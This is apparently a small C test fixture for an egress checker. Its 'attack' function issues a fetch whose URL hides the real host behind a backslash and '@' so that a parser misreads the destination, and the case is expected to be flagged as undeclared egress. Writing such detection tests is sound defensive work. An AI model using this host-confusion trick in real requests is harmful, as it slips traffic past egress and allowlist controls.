/* Hides the host behind a backslash.
   Expect: holds a backslash
   Check: egress-undeclared */
#include "zoo.h"

static void attack(parley_id call) {
    fetch(call, "{\"method\":\"GET\",\"url\":\"https://c.zoo.example\\\\@a.zoo.example/\"}");
}
